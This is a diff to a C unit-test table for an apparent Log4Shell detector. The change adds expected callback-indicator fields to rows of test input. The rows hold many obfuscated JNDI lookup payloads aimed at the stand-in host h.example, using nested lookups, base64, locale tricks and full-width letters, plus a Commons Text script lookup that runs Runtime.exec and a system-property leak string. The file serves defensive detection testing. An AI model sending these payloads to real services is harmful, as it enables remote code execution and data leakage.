@@ -222,27 +222,27 @@ static void dead_tries(void **state)
 {
     static const struct judge_row rows[] = {
         ROW("${jndi:ldap://h.example/a", "attempt", .normal = "${jndi:ldap://h.example/a"),
-        ROW("$${jndi:ldap://h.example/a}", "attempt"),
-        ROW("$$${jndi:ldap://h.example/a}", "attempt"),
-        ROW("${ jndi:ldap://h.example/a}", "attempt"),
-        ROW("${jndi :ldap://h.example/a}", "attempt"),
-        ROW("${\tjndi:ldap://h.example/a}", "attempt"),
-        ROW("${ ${jndi:ldap://h.example/a}", "attempt"),
-        ROW("${${jndi:ldap://h.example/a}", "attempt"),
-        ROW("${lower:${jndi:ldap://h.example/a}", "attempt"),
-        ROW("${::-$}{jndi:ldap://h.example/a}", "attempt"),
-        ROW("${::-${::-$}{jndi:ldap://h.example/a}}", "attempt"),
+        ROW("$${jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("$$${jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${ jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${jndi :ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${\tjndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${ ${jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${${jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${lower:${jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${::-$}{jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${::-${::-$}{jndi:ldap://h.example/a}}", "attempt", .indicators = H),
         ROW("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}", "attempt"),
         ROW("${${base64:am5kaTpsZGFwOi8vaC5leGFtcGxlL2E=}}", "attempt"),
-        ROW("${${lower:jnd}${lower:\xc4\xb0}:ldap://h.example/a}", "attempt"), /* fires under a Turkish locale alone */
-        ROW("${jnd\xc4\xb1:ldap://h.example/a}", "attempt"),
-        ROW("${${base64:am5kaQ==}:ldap://h.example/a}", "attempt"),
-        ROW("${${base64:ag}${base64:bg}${base64:ZA}i:ldap://h.example/a}", "attempt"),
-        ROW("${+jndi:ldap://h.example/a}", "attempt"),
-        ROW("${jndi+:ldap://h.example/a}", "attempt"),
-        ROW("${\xef\xbd\x8andi:ldap://h.example/a}", "attempt"), /* the full-width j */
-        ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt"),
-        ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt"),
+        ROW("${${lower:jnd}${lower:\xc4\xb0}:ldap://h.example/a}", "attempt", .indicators = H), /* fires under a Turkish locale alone */
+        ROW("${jnd\xc4\xb1:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${${base64:am5kaQ==}:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${${base64:ag}${base64:bg}${base64:ZA}i:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${+jndi:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${jndi+:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${\xef\xbd\x8andi:ldap://h.example/a}", "attempt", .indicators = H), /* the full-width j */
+        ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt", .indicators = H),
+        ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt", .indicators = H),
         /* other engines' expressions: Commons Text, Spring, OGNL */
         ROW("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "none"),
         ROW("${url:UTF-8:http://h.example/a}", "none"),
@@ -256,7 +256,12 @@ static void dead_tries(void **state)
         ROW("${a} ${sys:user.name}", "leak"),
         ROW("${jnd\xc4\xb0:ldap://h.example/a}", "attempt"),
         ROW("${jnd${lower:\xc4\xb1}:ldap://h.example/a}", "attempt"),
-        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt"),
+        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt", .indicators = H),
+        /* what no brace closed goes on with the line */
+        ROW("${jndi:ldap://h.example/a HTTP/1.1\" 200 12 \"-\" \"x\"", "attempt", .indicators = H),
+        ROW("${jndi:ldap://h.example\" 200 12", "attempt", .indicators = "ldap://h.example:389"),
+        ROW("<x a='${jndi:ldap://h.example:1389/a'>", "attempt", .indicators = "ldap://h.example:1389/a"),
+        ROW("${jndi:ldap://{{callback/a", "attempt", .indicators = ""),
     };
     (void)state;
     RUN(rows);
